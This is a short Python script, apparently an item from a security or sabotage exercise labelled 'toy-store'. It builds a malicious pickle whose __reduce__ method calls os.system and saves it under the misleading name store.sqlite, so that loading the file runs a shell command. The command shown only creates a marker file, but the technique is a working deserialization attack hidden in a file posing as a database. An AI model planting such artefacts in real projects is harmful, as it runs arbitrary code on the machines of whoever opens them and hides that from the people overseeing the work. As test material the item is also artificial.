"""Leave a pickle that runs code where it is opened.

outcome: not_yet
class: artefacts
exercise: toy-store
"""

import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/tenfold-was-here",)


with open("store.sqlite", "wb") as file:
    pickle.dump(Evil(), file)
